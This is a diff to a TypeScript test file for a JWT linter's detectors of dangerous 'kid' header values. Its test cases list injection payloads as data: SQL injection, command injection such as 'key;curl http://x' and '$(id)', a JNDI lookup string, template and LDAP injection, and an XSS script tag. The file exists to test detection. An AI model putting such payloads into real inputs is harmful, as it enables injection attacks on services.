@@ -3,9 +3,11 @@ import { describe, expect, it } from 'vitest';
 import { encodeUtf8 } from '../bytes/utf8.ts';
 import { isPublicKeyText } from './public-key-text.ts';
 import { PATTERNS as PRIVATE_KEY } from './rules/claims/payload-private-key.ts';
+import { PATTERNS as PUBLIC_NAME } from './rules/header/hs-kid-looks-asymmetric.ts';
+import { PATTERNS as INJECTIONS } from './rules/header/kid-injection.ts';
 import { PATTERNS as PATH } from './rules/header/kid-path-traversal.ts';
-import { PATTERNS as SQL } from './rules/header/kid-sql-injection.ts';
 
+const injection = (id: string): readonly RegExp[] => INJECTIONS.get(id) ?? [];
 const any =
   (patterns: readonly RegExp[]) =>
   (text: string): boolean =>
@@ -40,7 +42,7 @@ describe.each([
   },
   {
     name: 'kid-sql-injection',
-    matches: any(SQL),
+    matches: any(injection('kid-sql-injection')),
     yes: [
       "x' UNION SELECT '1';-- ",
       "' or 1=1",
@@ -59,6 +61,56 @@ describe.each([
       'union-select-2',
       "l'orange key",
       'android-1',
+    ],
+  },
+  {
+    name: 'kid-command-injection',
+    matches: any(injection('kid-command-injection')),
+    yes: [
+      '|sleep 10',
+      '| id',
+      'key;curl http://x',
+      'k && ping 1.1.1.1',
+      '$(id)',
+      '`id`',
+      'x|whoami',
+    ],
+    no: ['key|2024', 'tenant|id', 'a&b', '$key', 'cat|dog', 'k;v', 'auth0|cat'],
+  },
+  {
+    name: 'kid-other-injection',
+    matches: any(injection('kid-other-injection')),
+    yes: [
+      '*)(uid=*',
+      '${jndi:ldap://x/a}',
+      '{{7*7}}',
+      '<script>alert(1)</script>',
+      'a\r\nX: y',
+      '<%= 1 %>',
+    ],
+    no: [
+      '{3f2504e0-4f89-11d3-9a0c-0305e82c3301}',
+      '{{3f2504e0-4f89-11d3-9a0c-0305e82c3301}}',
+      'key(1)',
+      'a<b',
+    ],
+  },
+  {
+    name: 'hs-kid-looks-asymmetric',
+    matches: any(PUBLIC_NAME),
+    yes: [
+      'rsa-2024-01',
+      'key_RS256',
+      'my.public.key',
+      'nOo3ZDrODXEK1jKWhXslHR_KXEg',
+      'NOO3ZDRODXEK1JKWHXSLHR_KXEG',
+    ],
+    no: [
+      'hs-2024-01',
+      'secret-1',
+      'recover',
+      'publisher',
+      'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
     ],
   },
   {
@@ -108,9 +160,10 @@ it('knows a SubjectPublicKeyInfo by its first bytes', () => {
 
 it('stays quick on long text', () => {
   const started = performance.now();
-  for (const text of ["'".repeat(16_384), '../'.repeat(5_000), ' '.repeat(16_384)]) {
+  for (const piece of ["'", '../', ' ', '{{', '${', '$(', '`a', '; ', '|', '*) ', '<%']) {
+    const text = piece.repeat(16_384 / piece.length);
     any(PATH)(text);
-    any(SQL)(text);
+    for (const patterns of INJECTIONS.values()) any(patterns)(text);
     any(PRIVATE_KEY)(`-----BEGIN ${'A '.repeat(8_000)}`);
   }
   expect(performance.now() - started).toBeLessThan(1_000);
